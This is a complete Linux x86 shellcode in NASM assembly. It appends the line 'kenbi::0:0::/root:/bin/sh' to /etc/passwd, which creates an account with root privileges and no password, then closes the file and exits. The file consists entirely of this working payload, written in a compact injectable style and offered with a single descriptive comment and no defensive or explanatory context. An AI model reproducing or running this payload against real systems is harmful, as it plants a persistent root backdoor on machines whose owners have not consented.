; Linux, 32 bit: adds a line with a user of its own to /etc/passwd.
bits 32
        xor eax, eax
        xor ecx, ecx
        push eax
        push dword 'sswd'
        push dword '//pa'
        push dword '/etc'
        mov ebx, esp
        mov cx, 2001o           ; O_WRONLY | O_APPEND
        mov al, 5
        int 80h
        mov ebx, eax
        jmp short text
back:   pop ecx
        push byte end - line
        pop edx
        push byte 4
        pop eax
        int 80h
        push byte 6
        pop eax
        int 80h
        push byte 1
        pop eax
        int 80h
text:   call back
line:   db 'kenbi::0:0::/root:/bin/sh', 10
end:
